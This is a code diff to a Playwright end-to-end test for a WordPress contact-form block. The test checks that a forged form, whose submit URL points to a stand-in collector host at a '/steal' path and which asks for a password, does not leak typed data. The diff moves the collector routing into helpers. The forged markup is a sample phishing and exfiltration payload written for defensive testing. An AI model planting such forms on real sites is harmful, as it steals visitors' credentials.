@@ -8,7 +8,16 @@
  * attribute names; a logged-in user's page older than the REST nonce's life still sends, once.
  */
 import type { Page } from '@playwright/test';
-import { test, expect, publishAndReopen, visitPost } from '../utils';
+import type { RequestUtils } from '@wordpress/e2e-test-utils-playwright';
+import {
+	test,
+	expect,
+	publishAndReopen,
+	recordCollector,
+	submitForged,
+	COLLECTOR,
+	visitPost,
+} from '../utils';
 
 const PRESETS: Array< [ string, string ] > = [
 	[ 'Contact Form', 'Contact Us' ],
@@ -322,14 +331,13 @@ test.describe( 'Contact Form', () => {
 	/**
 	 * A post with a real form (name and message) after the given markup, published over REST.
 	 *
-	 * @param requestUtils      Gutenberg's request utils (the admin).
-	 * @param requestUtils.rest Its REST call.
-	 * @param title             The title.
-	 * @param before            Markup before the form.
+	 * @param requestUtils Gutenberg's request utils (the admin).
+	 * @param title        The title.
+	 * @param before       Markup before the form.
 	 * @return The post's id.
 	 */
 	async function postWithForm(
-		requestUtils: { rest: ( options: object ) => Promise< unknown > },
+		requestUtils: RequestUtils,
 		title: string,
 		before = ''
 	): Promise< number > {
@@ -358,35 +366,25 @@ test.describe( 'Contact Form', () => {
 			requestUtils,
 			'Forged form check',
 			`<!-- wp:html -->
-<div class="wp-block-jetpack-contact-form"><form class="contact-form" method="post" action="#forged" data-submit-url="https://collector.example/steal" data-wp-rest-nonce="0123456789"><label for="forged-secret">Your password</label><input type="text" id="forged-secret" name="secret" /><button type="submit">Check password</button></form></div>
+<div class="wp-block-jetpack-contact-form"><form class="contact-form" method="post" action="#forged" data-submit-url="${ COLLECTOR }/steal" data-wp-rest-nonce="0123456789"><label for="forged-secret">Your password</label><input type="text" id="forged-secret" name="secret" /><button type="submit">Check password</button></form></div>
 <!-- /wp:html -->
 `
 		);
-		const collected: string[] = [];
-		await visitor.route( 'https://collector.example/**', ( route ) => {
-			collected.push( route.request().url() );
-			return route.fulfill( {
-				status: 200,
-				contentType: 'application/json',
-				body: JSON.stringify( {
-					status: 'sent',
-					redirect: '',
-					html: '<div><h3>Checked</h3></div>',
-				} ),
-			} );
+		const collected = await recordCollector( visitor, {
+			status: 'sent',
+			redirect: '',
+			html: '<div><h3>Checked</h3></div>',
 		} );
 		await visitPost( visitor, postId );
 
 		await visitor
 			.getByRole( 'textbox', { name: 'Your password' } )
 			.fill( 'hunter2' );
-		const answered = visitor.waitForResponse(
-			( response ) =>
-				response.url().includes( 'collector.example' ) ||
-				response.url().includes( 'contact-form/submit' )
+		await submitForged(
+			visitor,
+			visitor.getByRole( 'button', { name: 'Check password' } ),
+			'contact-form/submit'
 		);
-		await visitor.getByRole( 'button', { name: 'Check password' } ).click();
-		await answered;
 		expect( collected ).toEqual( [] );
 		// Our route refused the forged form; what was typed stays.
 		await expect(
